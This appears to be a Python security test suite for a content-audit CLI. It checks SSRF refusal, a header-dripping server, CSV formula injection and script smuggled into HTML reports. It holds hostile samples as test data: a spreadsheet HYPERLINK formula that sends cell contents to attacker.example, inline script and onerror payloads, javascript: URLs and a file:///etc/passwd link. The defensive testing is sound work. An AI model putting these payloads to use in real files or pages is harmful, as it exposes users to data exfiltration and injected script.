"""`needle audit` and `needle seo` on hostile records: links to private addresses and
redirects into them, a server that drips its headers, URLs that cannot be parsed, titles
that are spreadsheet formulas, a javascript: URL imported from JSON Lines, and script
smuggled into the HTML reports.

Every audit here is a real `python -m cli audit` child process on an index built by
`needle index` from JSON Lines; the servers are real, on loopback, started and stopped by
the test. The crawled site is on 127.0.0.1 (its own host may be contacted); 127.0.0.2 and
localhost stand for private addresses that are not the site's.
"""

from __future__ import annotations

import csv
import json
import os
import socket
import socketserver
import subprocess
import sys
import threading
import time
from contextlib import contextmanager
from datetime import datetime, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from conftest import ROOT, run_needle

from crawler.records import Link, PageMeta, Post

pytestmark = pytest.mark.timeout(180)

AS_OF = "2026-11-25"
SITE = "http://127.0.0.1:9"  # the crawled site's host is 127.0.0.1 (its port is never asked)
RUN_S = 60.0  # bound of every child process
FORMULA = '=HYPERLINK("http://attacker.example/?d="&A2,"Click")'


# --- servers -----------------------------------------------------------------------------


class _Logging(BaseHTTPRequestHandler):
    """Answers 200, or a redirect where ``server.redirects`` says so; logs every request."""

    def log_message(self, *args) -> None:
        pass

    def _answer(self) -> None:
        self.server.log.append(f"{self.command} {self.path}")
        target = self.server.redirects.get(self.path)
        self.send_response(302 if target else 200)
        if target:
            self.send_header("Location", target)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_HEAD = do_GET = _answer


@contextmanager
def http_server(host: str = "127.0.0.1", redirects: dict[str, str] | None = None):
    server = ThreadingHTTPServer((host, 0), _Logging)
    server.daemon_threads = True
    server.log, server.redirects = [], dict(redirects or {})
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)


def base(server) -> str:
    host, port = server.server_address[:2]
    return f"http://{host}:{port}"


class _Dripping(socketserver.BaseRequestHandler):
    """Reads the request, then sends a status line and one header a byte at a time,
    forever (until the test stops it): every read gets a byte well within any timeout."""

    def handle(self) -> None:
        self.request.settimeout(1)
        try:
            self.request.recv(65536)
            payload = b"HTTP/1.1 200 OK\r\nX-Drip: " + b"a" * 100_000
            self.server.connections += 1
            for byte in payload:
                if self.server.stop.wait(0.2):
                    return
                self.request.sendall(bytes([byte]))
        except OSError:
            return  # the client gave up: what it should do


@contextmanager
def dripping_server():
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Dripping)
    server.daemon_threads = True
    server.stop, server.connections = threading.Event(), 0
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.stop.set()
        server.shutdown()
        server.server_close()
        thread.join(10)


def closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


# --- records, index and the CLI ------------------------------------------------------------


def post(slug: str, links: list[str] = (), *, title: str | None = None, url: str | None = None,
         site: str = SITE) -> Post:
    body = ("Gentle exercise and manual therapy help most patients with back pain recover. "
            "Our physiotherapists explain what to expect at a first visit. ") * 12
    return Post(url=url or f"{SITE}/blog/{slug}/", site=site, title=title or slug.title(),
                published=datetime(2020, 5, 1, 9, tzinfo=timezone.utc), body=body,
                word_count=len(body.split()), author="Dr. Ann Lee",
                links=[Link(href=h, text=f"source {i}", internal=False, in_body=True)
                       for i, h in enumerate(links)],
                meta=PageMeta(title_tag=title or slug.title(), h1_count=1))


def build_index(tmp_path: Path, posts: list[Post]) -> Path:
    export = tmp_path / "records.jsonl"
    export.write_text("".join(p.model_dump_json() + "\n" for p in posts), encoding="utf-8")
    index = tmp_path / "index"
    run_needle("index", str(export), "--index", str(index), timeout=RUN_S)
    return index


def clean_env(**extra: str) -> dict[str, str]:
    """The environment of a user who set nothing: no NEEDLE_* override, no proxy."""
    env = {k: v for k, v in os.environ.items()
           if not k.startswith("NEEDLE_") and "proxy" not in k.lower()}
    return {**env, **extra}


def needle(*args: str, env: dict[str, str] | None = None) -> tuple[subprocess.CompletedProcess, float]:
    """Run `needle` in a child process; fail (not hang) when it outlives RUN_S."""
    start = time.monotonic()
    try:
        proc = subprocess.run([sys.executable, "-m", "cli", *args], cwd=ROOT, capture_output=True,
                              text=True, timeout=RUN_S, env=env or clean_env())
    except subprocess.TimeoutExpired:
        pytest.fail(f"needle {' '.join(args)} still running after {RUN_S:g} s")
    return proc, time.monotonic() - start


def audit_json(index: Path, *extra: str, env: dict[str, str] | None = None):
    proc, elapsed = needle("audit", "--index", str(index), "--format", "json", "--as-of", AS_OF,
                           *extra, env=env)
    assert proc.returncode == 0, proc.stderr[-3000:]
    return json.loads(proc.stdout), elapsed


def findings(rows, url: str) -> dict[str, dict]:
    return {f["signal"]: f for f in next(r for r in rows if r["url"] == url)["findings"]}


# --- 1. private addresses ----------------------------------------------------------------------


def test_default_audit_contacts_no_private_address_directly_or_by_redirect(tmp_path):
    with http_server("127.0.0.2") as private, http_server("127.0.0.1") as on_localhost, \
            http_server("127.0.0.1") as site:
        hidden = base(private)
        local = f"http://localhost:{on_localhost.server_address[1]}"
        site.redirects.update({"/to-private": f"{hidden}/after-redirect",
                               "/to-localhost": f"{local}/after-redirect"})
        links = [f"{hidden}/direct", f"{local}/direct", f"{base(site)}/to-private",
                 f"{base(site)}/to-localhost", f"{base(site)}/fine",
                 f"http://[::1]:{private.server_address[1]}/v6"]
        index = build_index(tmp_path, [post("intranet-links", links)])

        rows, _ = audit_json(index, "--link-timeout", "3")
        assert private.log == [] and on_localhost.log == []  # never asked, not even HEAD
        # the crawled site's own host is checked as always (and so is followed)
        assert {"HEAD /to-private", "HEAD /to-localhost", "HEAD /fine"} <= set(site.log)
        found = findings(rows, f"{SITE}/blog/intranet-links/")
        unchecked = found["unchecked_link"]
        assert set(unchecked["related"]) == set(links) - {f"{base(site)}/fine"}
        evidence = unchecked["evidence"]
        assert f"{hidden}/direct (refused: private address 127.0.0.2)" in evidence
        assert f"(refused: private address 127.0.0.2 (after a redirect to {hidden}/after-redirect))" \
            in evidence
        assert f"{local}/direct (refused: private address " in evidence  # 127.0.0.1 or ::1
        assert f"after a redirect to {local}/after-redirect" in evidence
        assert "[::1]" in evidence and "private address ::1" in evidence
        assert "broken_link" not in found  # refused is not "broken": nobody knows

        # the allow-list lets an intranet host in (refusals are not cached: asked afresh)
        rows, _ = audit_json(index, "--link-timeout", "3",
                             env=clean_env(NEEDLE_AUDIT_LINK_ALLOW_HOSTS="127.0.0.2"))
        assert sorted(private.log) == ["HEAD /after-redirect", "HEAD /direct"]
        assert on_localhost.log == []  # localhost is another host: still refused
        found = findings(rows, f"{SITE}/blog/intranet-links/")
        assert "127.0.0.2" not in found["unchecked_link"]["evidence"]
        assert f"{base(site)}/to-private" in found["redirected_link"]["related"]


# --- 2. deadlines --------------------------------------------------------------------------


def test_a_server_dripping_its_headers_cannot_hold_the_audit(tmp_path):
    with dripping_server() as drip:
        slow = f"http://127.0.0.1:{drip.server_address[1]}"
        index = build_index(tmp_path, [post("slow-source", [f"{slow}/a"])])
        rows, elapsed = audit_json(index, "--link-timeout", "3")
        assert drip.connections >= 1  # it was asked, and dripped
    # 3 s for the link, the rest is the child process starting and reading the index
    assert elapsed < 25, f"the audit took {elapsed:.1f} s with --link-timeout 3"
    found = findings(rows, f"{SITE}/blog/slow-source/")
    assert found["broken_link"]["evidence"].endswith(f"{slow}/a (timeout)")


def test_the_whole_link_check_phase_has_a_deadline(tmp_path):
    with dripping_server() as drip:
        slow = f"http://127.0.0.1:{drip.server_address[1]}"
        urls = [f"{slow}/{i}" for i in range(4)]
        index = build_index(tmp_path, [post("many-slow-sources", urls)])
        rows, elapsed = audit_json(index, "--link-timeout", "40",
                                   env=clean_env(NEEDLE_AUDIT_LINK_PHASE_TIMEOUT="2"))
        # the same by flag
        rows_by_flag, elapsed_by_flag = audit_json(index, "--link-timeout", "40",
                                                   "--link-phase-timeout", "1.5")
    assert elapsed < 25, f"the audit took {elapsed:.1f} s with a 2 s link-check phase"
    found = findings(rows, f"{SITE}/blog/many-slow-sources/")
    assert set(found["unchecked_link"]["related"]) == set(urls)
    assert found["unchecked_link"]["evidence"].count("not checked: the link checks ran out of "
                                                     "time (2 s)") == 4
    assert elapsed_by_flag < 25
    assert findings(rows_by_flag, f"{SITE}/blog/many-slow-sources/")["unchecked_link"][
        "evidence"].count("ran out of time (1.5 s)") == 4


def test_an_index_folder_that_takes_no_link_cache_still_gets_its_audit(tmp_path):
    """The link cache cannot be written beside the index (a read-only folder; here a folder
    where the cache file should be, which stops root as well): the audit reports every
    link it checked, warns that nothing was cached, and leaves the index as it was."""
    with http_server("127.0.0.1", redirects={"/moved": "/fine"}) as site:
        links = [f"{base(site)}/fine", f"{base(site)}/moved"]
        index = build_index(tmp_path, [post("sources", links)])
        (index / "linkcache.json").mkdir()
        before = {p.name: p.read_bytes() for p in index.iterdir() if p.is_file()}
        for attempt in (1, 2):  # nothing cached: the second audit asks again
            proc, _ = needle("audit", "--index", str(index), "--format", "json", "--as-of", AS_OF,
                             "--link-timeout", "3", "--no-compare")
            assert proc.returncode == 0, proc.stderr[-3000:]
            assert "link checks not cached" in proc.stderr and "linkcache.json" in proc.stderr
            found = findings(json.loads(proc.stdout), f"{SITE}/blog/sources/")
            assert found["redirected_link"]["related"] == [f"{base(site)}/moved"]
            # asked, and asked again (/fine twice an audit: itself, and where /moved ends)
            assert site.log.count("HEAD /moved") == attempt and site.log.count("HEAD /fine") == 2 * attempt
    after = {p.name: p.read_bytes() for p in index.iterdir() if p.is_file()}
    assert after == before and not [p for p in index.iterdir() if p.name.startswith(".linkcache-")]
    proc, _ = needle("search", "exercise", "--index", str(index))
    assert proc.returncode == 0 and "Sources" in proc.stdout


# --- 3. URLs that cannot be fetched at all --------------------------------------------------


def test_every_bad_url_is_one_links_result_and_the_audit_finishes(tmp_path):
    with http_server("127.0.0.1") as plain:
        bad = {
            "http://xn--zz.example/page": "invalid_url",  # IDNA: an A-label that decodes to nothing
            "http://[oops/": "invalid_url",  # unbalanced IPv6 bracket
            "http://127.0.0.1:99999/": "invalid_url",  # no such port
            f"https://127.0.0.1:{plain.server_address[1]}/": "tls_error",  # TLS to plain HTTP
            f"http://127.0.0.1:{closed_port()}/": "connect_error",
        }
        good = f"{base(plain)}/fine"
        index = build_index(tmp_path, [post("bad-links", [*bad, good])])
        rows, _ = audit_json(index, "--link-timeout", "3")
    found = findings(rows, f"{SITE}/blog/bad-links/")
    assert set(found["broken_link"]["related"]) == set(bad)
    for url, reason in bad.items():
        assert f"{url} ({reason})" in found["broken_link"]["evidence"]
    assert good not in json.dumps(found)


# --- 4. CSV injection ----------------------------------------------------------------------


HOSTILE_TITLES = [FORMULA, "+SUM(1,2)", "-2+3", "@cmd", "\tTabbed", "\rReturn", "Fine title"]


def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path):
    posts = [post(f"p{i}", title=t) for i, t in enumerate(HOSTILE_TITLES)]
    posts.append(post("x", url=f'=HYPERLINK("{SITE}/","Click")', title="Imported"))
    index = build_index(tmp_path, posts)

    out = tmp_path / "audit.csv"
    proc, _ = needle("audit", "--index", str(index), "--format", "csv", "-o", str(out),
                     "--as-of", AS_OF, "--no-check-links")
    assert proc.returncode == 0, proc.stderr
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    titles = {r["title"] for r in rows}
    for title in HOSTILE_TITLES[:-1]:
        assert "'" + title in titles and title not in titles
    assert "Fine title" in titles
    assert "'" + posts[-1].url in {r["url"] for r in rows}
    for row in rows:  # no text cell starts like a formula; numbers stay numbers
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
        float(row["score"]), float(row["weight"])

    seo = tmp_path / "seo.csv"
    proc, _ = needle("seo", "--index", str(index), "--format", "csv", "-o", str(seo))
    assert proc.returncode == 0, proc.stderr
    with seo.open(newline="", encoding="utf-8") as fh:
        seo_rows = list(csv.DictReader(fh))
    assert "'" + posts[-1].url in {r["url"] for r in seo_rows}
    for row in seo_rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row


# --- 5. HTML: links and the Content-Security-Policy -----------------------------------------

INJECTED = ('<script>document.title = "pwned by script";</script>'
            '<img src="x" onerror="document.title = \'pwned by handler\'">')


EVIL = "javascript:document.title='pwned by link'"


@pytest.fixture(scope="module")
def html_reports(tmp_path_factory):
    """The audit and SEO HTML reports of an index imported from JSON Lines whose posts
    have javascript: and data: URLs."""
    tmp_path = tmp_path_factory.mktemp("hostile-html")
    posts = [post("a", title="Clickable"), post("b", title="Evil", url=EVIL),
             post("c", title="Data", url="data:text/html,<b>x</b>"),
             post("d", title="Spaced", url=" JaVaScRiPt:alert(1)")]
    index = build_index(tmp_path, posts)
    reports = {"audit": tmp_path / "audit.html", "seo": tmp_path / "seo.html"}
    for command, out in reports.items():
        extra = ("--as-of", AS_OF, "--no-check-links") if command == "audit" else ()
        proc, _ = needle(command, "--index", str(index), "--format", "html", "-o", str(out), *extra)
        assert proc.returncode == 0, proc.stderr
    return reports


def test_html_reports_link_only_web_urls(html_reports):
    from browser import chrome
    from selenium.webdriver.common.by import By

    page = html_reports["audit"].read_text(encoding="utf-8")
    assert 'href="javascript:' not in page.lower() and 'href="data:' not in page
    assert 'href=" javascript:' not in page.lower()
    with chrome() as driver:
        driver.get(html_reports["audit"].as_uri())
        hrefs = [a.get_attribute("href") for a in driver.find_elements(By.CSS_SELECTOR, "a[href]")]
        assert hrefs and all(h.startswith(("http://", "https://")) for h in hrefs), hrefs
        rows = {r.get_attribute("data-url"): r for r in
                driver.find_elements(By.CSS_SELECTOR, "#ranked tr.post-row")}
        assert "Evil" in rows[EVIL].text and not rows[EVIL].find_elements(By.TAG_NAME, "a")
        assert rows[f"{SITE}/blog/a/"].find_elements(By.TAG_NAME, "a")


def test_html_reports_policy_blocks_smuggled_script_but_not_their_own(html_reports, tmp_path):
    from browser import chrome
    from selenium.webdriver.common.by import By

    smuggled = {}
    for name, path in html_reports.items():
        text = path.read_text(encoding="utf-8")
        head = text.split("</head>")[0]
        assert '<meta http-equiv="Content-Security-Policy"' in head
        assert "default-src &#39;none&#39;" in head
        # the report with script smuggled in, as if escaping had failed somewhere
        smuggled[name] = tmp_path / f"smuggled-{path.name}"
        smuggled[name].write_text(text.replace("<body>", "<body>" + INJECTED, 1), encoding="utf-8")

    with chrome() as driver:
        driver.get(smuggled["audit"].as_uri())
        time.sleep(0.5)
        assert driver.title.startswith("Content audit")  # neither script nor handler ran
        assert driver.find_elements(By.CSS_SELECTOR, "#ranked tr.post-row")
        # the inline style is allowed by its hash: the page is styled
        signal = driver.find_element(By.CSS_SELECTOR, "span.signal")
        assert signal.value_of_css_property("display") == "inline-block"

        driver.get(smuggled["seo"].as_uri())
        time.sleep(0.5)
        assert driver.title.startswith("Needle SEO report")
        # the report's own script still runs: a header click sorts its table
        header = driver.find_element(By.CSS_SELECTOR, "#pages thead th")
        header.click()
        assert header.get_attribute("aria-sort") == "ascending"
        score = driver.find_element(By.CSS_SELECTOR, "#score .score")
        assert score.value_of_css_property("display") == "inline-block"


# --- the shared helpers, directly ---------------------------------------------------------


def test_csv_helper_neutralises_text_only_and_round_trips():
    import io

    from reports.safe_output import csv_text

    row = {"n": -5, "f": -2.5, "s": "-5", "eq": "=1+1", "fw": "\uff1dcmd", "ok": "a=b",
           "cr": "line\rbreak", "empty": ""}
    text = csv_text(list(row), [row])
    back = next(csv.DictReader(io.StringIO(text)))
    assert back == {"n": "-5", "f": "-2.5", "s": "'-5", "eq": "'=1+1", "fw": "'\uff1dcmd",
                    "ok": "a=b", "cr": "line\rbreak", "empty": ""}
    assert text.splitlines()[1].startswith("-5,-2.5,")  # numbers unquoted: still numbers


def test_only_web_urls_become_hrefs():
    from reports.safe_output import web_href

    for url in ("http://clinic.example/a", "https://clinic.example/b?x=1#y", "HTTPS://CLINIC.EXAMPLE/"):
        assert web_href(url) == url
    for url in ("javascript:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
                "JAVASCRIPT:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd",
                "http:alert(1)", "//evil.example/", "http://", "https://a b/", "http://a\nb/",
                "", None):
        assert web_href(url) is None, url
